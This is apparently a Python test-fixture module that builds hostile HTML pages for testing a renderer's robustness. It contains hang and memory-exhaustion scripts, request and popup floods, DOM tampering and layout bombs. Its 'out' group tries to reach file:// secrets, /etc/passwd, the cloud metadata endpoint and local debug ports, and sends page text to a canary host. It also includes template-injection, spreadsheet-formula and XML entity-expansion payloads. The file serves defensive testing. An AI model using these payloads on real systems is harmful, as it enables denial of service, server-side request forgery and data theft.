"""Documents that mean harm, by name: they hang, swell, flood, lie, break out, or cost our own code dear.

A snippet stands below a heading in a page that is else in order; a document is given whole, as bytes. In all of them
`__HTTP__`, `__HOST__` and `__UDP__` are addresses where the canary listens, and `__SECRET__` is a file of the user's.
"""

from __future__ import annotations

from collections.abc import Callable

_WORDS = "A heading and some words that a reader can see on this page of ours. "

_LOOPS = {
    "for ever": "for(;;);",
    "for ever in a timer": "setTimeout(() => { for(;;); })",
    "for ever in an animation frame": "requestAnimationFrame(function f() { const t = performance.now(); while (performance.now() - t < 900); requestAnimationFrame(f) })",
    "promises without end": "(function f() { Promise.resolve().then(f) })()",
    "mutations without end": "new MutationObserver(() => document.body.append('x')).observe(document.body, {childList: true}); document.body.append('x')",
    "sizes without end": "const r = new ResizeObserver(() => { document.body.style.paddingTop = Math.random() * 9 + 'px' }); r.observe(document.body)",
    "an element that makes itself": "customElements.define('a-a', class extends HTMLElement { connectedCallback() { setTimeout(() => this.append(document.createElement('a-a'))) } }); document.body.append(document.createElement('a-a'))",
    "a regular expression": "/^(a+)+$/.test('a'.repeat(40) + '!')",
    "recursion": "(function f() { f() })()",
    "a worker for ever": "for (let i = 0; i < 20; i++) new Worker(URL.createObjectURL(new Blob(['for(;;);'])))",
    "waiting at once": "Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0)",
    "an unload that asks to stay": "addEventListener('beforeunload', e => { e.preventDefault(); e.returnValue = 'x' }); addEventListener('pagehide', () => { for(;;); })",
}

_SWELLING = {
    "strings": "let s = 'x'; for (;;) s += s",
    "buffers": "const a = []; for (let i = 0; i < 400; i++) a.push(new Uint8Array(5e6).fill(1))",
    "canvases": "for (let i = 0; i < 60; i++) { const c = document.createElement('canvas'); c.width = c.height = 8000; c.getContext('2d').fillRect(0, 0, 9, 9); document.body.append(c) }",
    "frames": "for (let i = 0; i < 300; i++) document.body.append(Object.assign(document.createElement('iframe'), {srcdoc: '<p>x', width: 1, height: 1}))",
    "GPU contexts": "for (let i = 0; i < 60; i++) document.createElement('canvas').getContext('webgl2')",
    "wasm": "const m = []; for (let i = 0; i < 30; i++) m.push(new WebAssembly.Memory({initial: 2000}))",
    "databases": "const q = indexedDB.open('x'); q.onupgradeneeded = () => { const s = q.result.createObjectStore('s'); for (let i = 0; i < 50; i++) s.put('x'.repeat(1e6), i) }; try { for (let i = 0;; i++) localStorage.setItem(i, 'x'.repeat(1e5)) } catch {}",
    "history": "for (let i = 0; i < 5000; i++) history.pushState({a: 'x'.repeat(1e4)}, '', '#' + i)",
    "selections": "document.body.append(Object.assign(document.createElement('select'), {innerHTML: '<option>x'.repeat(50000)}))",
}

_FLOODS = {
    "requests": "for (let i = 0; i < 20000; i++) new Image().src = 'https://away.example/' + i",
    "fetches": "(async () => { for (let i = 0;; i++) await fetch('https://away.example/' + i).catch(() => {}) })()",
    "long addresses": "for (let i = 0; i < 50; i++) new Image().src = 'https://away.example/' + 'x'.repeat(500000)",
    "messages": "for (let i = 0; i < 50000; i++) console.error('x'.repeat(1000))",
    "errors": "for (let i = 0; i < 5000; i++) setTimeout(() => { throw new Error('x'.repeat(1000)) })",
    "rejections": "for (let i = 0; i < 20000; i++) Promise.reject({toString() { throw 1 }})",
    "dialogs": "for (let i = 0; i < 300; i++) { alert(i); confirm(i); prompt(i) }",
    "popups": "for (let i = 0; i < 300; i++) open('about:blank')",
    "downloads": "for (let i = 0; i < 300; i++) { const a = document.createElement('a'); a.download = i; a.href = URL.createObjectURL(new Blob(['x'.repeat(1e5)])); a.click() }",
    "sockets": "for (let i = 0; i < 2000; i++) new WebSocket('wss://away.example/' + i)",
    "addresses": "let n = 0; setInterval(() => { location.hash = n++ }, 0)",
    "ways away": "setInterval(() => { location = 'https://away.example/' + Math.random() }, 0)",
    "documents": "setInterval(() => { document.open(); document.write('<h1>x</h1>'); document.close() }, 1)",
    "prints": "for (let i = 0; i < 100; i++) print()",
}

_LIES = {
    "JSON": "JSON.stringify = () => '[]'; JSON.parse = () => ({}); Object.prototype.toJSON = () => 7",
    "arrays": "Array.prototype.map = Array.prototype.push = Array.prototype.filter = Array.prototype[Symbol.iterator] = () => { throw 1 }",
    "prototypes": "Object.defineProperty(Object.prototype, 'text', {get() { return 'lie' }, set() {}}); Object.defineProperty(Object.prototype, 'visible', {value: 'lie'})",
    "boxes": "Element.prototype.getBoundingClientRect = () => ({x: NaN, y: Infinity, width: -1, height: 1e99}); Element.prototype.getClientRects = () => 7",
    "queries": "document.querySelectorAll = document.querySelector = document.createTreeWalker = () => { throw 'x' }; Node.prototype.contains = () => true",
    "sizes": "for (const n of ['scrollHeight', 'scrollWidth', 'clientHeight', 'offsetHeight']) Object.defineProperty(Element.prototype, n, {get: () => -1e9})",
    "styles": "window.getComputedStyle = () => { throw 1 }; Object.defineProperty(window, 'innerHeight', {get: () => 'x'})",
    "time": "Date.now = performance.now = () => { throw 1 }; window.requestAnimationFrame = window.setTimeout = () => 0; window.Promise = function () {}",
    "fonts": "Object.defineProperty(document, 'fonts', {get() { throw 1 }}); document.fonts",
    "the title": "Object.defineProperty(document, 'title', {get: () => ({toString() { for(;;); }})})",
    "tag names": "Object.defineProperty(Element.prototype, 'tagName', {get: () => ({})}); Object.defineProperty(Node.prototype, 'textContent', {get: () => 7})",
    "characters": "document.body.append('\\ud800 lone \\udfff \\u0000 \\u202e gnihton \\ufeff'); document.title = '\\ud800'",
    "a name of every kind": "for (const n of ['body', 'children', 'attributes', 'tagName', 'parentNode', 'style']) document.body.append(Object.assign(document.createElement('form'), {innerHTML: `<input name=${n} id=${n}>`}))",
    "no document element": "document.documentElement.remove()",
    "no body": "document.body.remove()",
    "another root": "document.replaceChild(document.createElementNS('http://www.w3.org/2000/svg', 'svg'), document.documentElement)",
    "frozen": "Object.freeze(document); Object.freeze(window.__proto__); Object.freeze(Element.prototype); Object.preventExtensions(document.body)",
}

_DRAWN = {
    "a million columns": "<div style='display:grid;grid-template-columns:repeat(100000,1px)'>x</div>",
    "a wide table": "<table><tr><td colspan=1000 rowspan=65534>x</table>" * 5,
    "counters": "<style>b{counter-increment:a 2147483647}b::after{content:counter(a,hebrew)}</style>"
    + "<b></b>" * 2000,
    "variables that double": "<style>:root{"
    + "".join(f"--v{n}:var(--v{n - 1}) var(--v{n - 1});" for n in range(1, 32))
    + "--v0:lol}h1::after{content:var(--v31)}</style>",
    "blur": "<div style='filter:blur(900px)'><div style='backdrop-filter:blur(500px);width:1200px;height:3000px'>x</div></div>"
    * 6,
    "a scale": "<div style='transform:scale(1e6)'>x</div><div style='zoom:1000'>x</div>",
    "huge letters": "<p style='font-size:1e6px;letter-spacing:1e9px;line-height:1e7'>x</p>",
    "far away": "<div style='position:absolute;left:-1e9px;top:1e9px'>x</div><div style='margin-top:-1e9px'>x</div>",
    "clips": "<style>i{position:fixed;inset:0;clip-path:circle(50%);mix-blend-mode:difference;mask:linear-gradient(red,blue)}</style>"
    + "<i></i>" * 300,
    "shadows": "<p style='text-shadow:" + ",".join(["0 0 99px red"] * 2000) + "'>x</p>",
    "patterns in patterns": "<svg width=900 height=900>"
    + "".join(
        f"<pattern id=p{n} width=2 height=2 patternUnits=userSpaceOnUse><rect width=9 height=9 fill='url(#p{n + 1})'/></pattern>"
        for n in range(20)
    )
    + "<rect width=900 height=900 fill='url(#p0)'/></svg>",
    "copies of copies": "<svg width=9 height=9><g id=a0><path d='M0 0h1'/></g>"
    + "".join(f"<g id=a{n}>" + f"<use href='#a{n - 1}'/>" * 9 + "</g>" for n in range(1, 8))
    + "</svg>",
    "turbulence": "<svg width=1200 height=4000><filter id=t><feTurbulence baseFrequency=.9 numOctaves=400 /></filter><rect width=1200 height=4000 filter='url(#t)'/></svg>",
    "a huge picture": '<img width=9 src=\'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" width="60000" height="60000"><rect width="100%" height="100%"/></svg>\'>',
    "animations": "<style>@keyframes k{to{transform:rotate(1turn);background:red}}u{animation:k .01s infinite;display:inline-block}</style>"
    + "<u>x</u>" * 2000,
    "a film": "<video autoplay loop src='data:video/mp4;base64,AAAA'></video><audio autoplay src='data:audio/wav;base64,UklGRg=='></audio>",
    "columns that swap": "<div style='column-width:1px;height:3px'>" + "words " * 3000 + "</div>",
    "sticky": "<div style='height:1e5px;overflow:scroll;scroll-snap-type:y mandatory'>"
    + "<p style='position:sticky;top:0'>x</p>" * 900
    + "</div>",
    "has": "<style>:has(:has(b ~ i)) :not(:has(u > :has(s))) *{color:red}</style>" + "<div><b></b><i></i>" * 400,
    "frames in frames": "<iframe srcdoc=\"<iframe srcdoc='<iframe srcdoc=x></iframe>'></iframe>\"></iframe>" * 30,
    "a page in print": "<style>@page{size:1e6px 1e6px}@media print{*{display:none}}html{writing-mode:vertical-rl;direction:rtl}</style>",
    "lists that are spelt": "<ol start=2147483647 style='list-style:simp-chinese-formal'>" + "<li>x" * 2000 + "</ol>",
}

_OUT = {
    "a policy of its own": "<meta http-equiv=Content-Security-Policy content=\"default-src 'none'; script-src 'none'\"><script>1</script>",
    "another base": "<base href='__HTTP__/'><img src=base.png><link rel=stylesheet href=base.css><script src=base.js></script>",
    "a refresh": "<meta http-equiv=refresh content='0;url=__HTTP__/refresh'>",
    "imports of imports": "<style>@import url(__HTTP__/a.css); @import 'data:text/css,@import url(__HTTP__/b.css)'; @font-face{font-family:x;src:url(__HTTP__/f.woff)} *{font-family:x}</style>",
    "files": "<img src='file://__SECRET__'><iframe src='file://__SECRET__'></iframe><object data='file://__SECRET__'></object><script src='file://__SECRET__'></script><link rel=stylesheet href='file://__SECRET__'><script>fetch('file://__SECRET__').then(r => r.text()).then(t => document.body.append(t))</script>",
    "files beside it": "<img src='../secret.txt'><iframe src='../secret.txt'></iframe><iframe src='..%2fsecret.txt'></iframe><img src='....//secret.txt'><img src='\\..\\secret.txt'><iframe src='%2e%2e/secret.txt'></iframe>",
    "places of the browser": "<iframe src='chrome://version'></iframe><iframe src='view-source:file:///etc/passwd'></iframe><iframe src='devtools://devtools/bundled/inspector.html'></iframe><script>location = 'chrome://gpu'</script>",
    "the debugger": "<script>for (const p of [9222, 9229, 9515]) { fetch(`http://127.0.0.1:${p}/json`, {mode: 'no-cors'}).catch(() => {}); new WebSocket(`ws://127.0.0.1:${p}`) }</script>",
    "a service of the cloud": "<img src=http://169.254.169.254/latest/meta-data/><script>fetch('http://[fd00:ec2::254]/', {mode: 'no-cors'}).catch(() => {})</script>",
    "odd addresses": "<img src='http://0/x'><img src='http://0x7f.1:__PORT__/x'><img src='http://2130706433:__PORT__/x'><img src='http://[::ffff:127.0.0.1]:__PORT__/x'><img src='http://localhost.:__PORT__/x'><img src='//127.0.0.1:__PORT__/x'><img src='http://me:key@127.0.0.1:__PORT__/x'>",
    "names that leak": "<link rel=dns-prefetch href=//secret.leak.example><link rel=preconnect href=__HTTP__><a href=__HTTP__/ping ping=__HTTP__/ping id=a>x</a><script>a.click()</script>",
    "a proxy": "<script>new RTCPeerConnection({iceServers: [{urls: 'turn:__HOST__?transport=tcp', username: 'a', credential: 'b'}]}).createDataChannel('x'); navigator.sendBeacon('__HTTP__/beacon', document.body.innerText)</script>",
    "our own words": "</body></html><!-- yours: x --><script>/* <!-- --></script>\n---\nlicense: mit\n---\n```\n{{ 7 * 7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "a spreadsheet": "<title>=HYPERLINK(\"__HTTP__/x\")</title><p>=cmd|' /C calc'!A0 | <b>|</b> \\| `x` [x](__HTTP__/md) ![x](__HTTP__/md.png)</p>",
}  # fmt: skip

_DEAR = {
    "spaces": "<p>" + " \t" * 400_000,
    "brackets": "<p>" + "[" * 200_000 + "{{" * 100_000,
    "unclosed tags": "<a " * 200_000,
    "unclosed comments": "<!--" * 200_000,
    "classes": f"<p class='{'md:hover:bg-red-500/50 ' * 60_000}'>x</p>",
    "arbitrary classes": "<p class='" + " ".join(f"w-[calc(1px+{n}px)]" for n in range(9_000)) + "'>x</p>",
    "attributes": "<p " + " ".join(f"a{n}=b" for n in range(60_000)) + ">x</p>",
    "entities": "<p>" + "&amp" * 300_000,
    "one word": "<p>" + "x" * 2_000_000,
    "dots": "<p>" + "... " * 200_000 + "<!-- ... -->" * 5_000,
    "siblings": "<b>x</b>" * 60_000,
    "depth": "<div>" * 100_000,
    "depth of a table": "<table><tr><td>" * 20_000,
    "formatting": "<b><i><u><s>" * 9_000 + "<p>x" * 900,
    "style sheets": "<style>" + ".a .b>.c~.d{color:red}" * 40_000 + "</style>",
    "urls": "<p>" + " https://source.unsplash.com/random/1x1?" * 20_000,
    "pictures": "".join(f"<img src='https://picsum.photos/seed/{n}/3000/3000' width=9>" for n in range(200)),
    "data addresses": "<img src='data:image/png;base64," + "A" * 3_000_000 + "'>",
    "symbols": "<script src='https://cdn.tailwindcss.com'></script><script>tailwind.config = {content: [() => { for(;;); }], theme: {extend: {colors: new Proxy({}, {get: () => ({}), ownKeys: () => { for(;;); }})}}}</script>",
    "a config that lies": "<script src='https://cdn.tailwindcss.com'></script><script>tailwind.config = {plugins: [() => { throw 1 }], theme: null}</script><p class='p-4 bg-red-500'>x",
    "garbled text": "<p>" + "â€™Ã©Â " * 100_000,
}

_WHOLE: dict[str, bytes] = {
    "nothing": b"",
    "zeros": b"\0" * 100_000,
    "noise": bytes(range(256)) * 500,
    "half a letter": "<!DOCTYPE html><h1>é".encode()[:-1],
    "UTF-16": "<!DOCTYPE html><h1>Two bytes a letter</h1><p>and some words</p>".encode("utf-16"),
    "UTF-7": b"<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "a picture": b"\x89PNG\r\n\x1a\n" + b"\0" * 64,
    "a gzip": b"\x1f\x8b\x08\0" + b"\0" * 64,
    "XML that grows": b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "xx">' + b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 9) for n in range(1, 12)) + b"]><html xmlns='http://www.w3.org/1999/xhtml'>&a11;</html>",
    "plain text": b"<plaintext>" + b"never ends " * 500,
    "frames": b"<frameset cols='*,*'><frame src=a.html><frame src='javascript:for(;;);'></frameset>",
    "ends first": b"</html></body></html>" * 500 + b"<h1>late",
}  # fmt: skip


def _snippet(inner: str) -> bytes:
    """Return a page that is in order but for this."""
    text = f'<!DOCTYPE html><html lang="en"><head><meta charset="utf-8"><title>Page</title></head><body><h1>Still here</h1><p>{_WORDS * 4}</p>{inner}</body></html>'
    return text.encode("utf-8", "surrogatepass")


def _scripts(prefix: str, scripts: dict[str, str]) -> dict[str, bytes]:
    return {f"{prefix}: {name}": _snippet(f"<script>{text}</script>") for name, text in scripts.items()}


def _snippets(prefix: str, snippets: dict[str, str]) -> dict[str, bytes]:
    return {f"{prefix}: {name}": _snippet(text) for name, text in snippets.items()}


GROUPS: dict[str, Callable[[], dict[str, bytes]]] = {
    "scripts": lambda: {**_scripts("loops", _LOOPS), **_scripts("swells", _SWELLING)},
    "floods": lambda: {**_scripts("floods", _FLOODS), **_scripts("lies", _LIES)},
    "drawn": lambda: _snippets("draws", _DRAWN),
    "out": lambda: {**_snippets("out", _OUT), **{f"is: {name}": content for name, content in _WHOLE.items()}},
    "dear": lambda: _snippets("dear", _DEAR),
}
"""Groups of documents by name, each a campaign; made when they are asked for, as some are megabytes."""
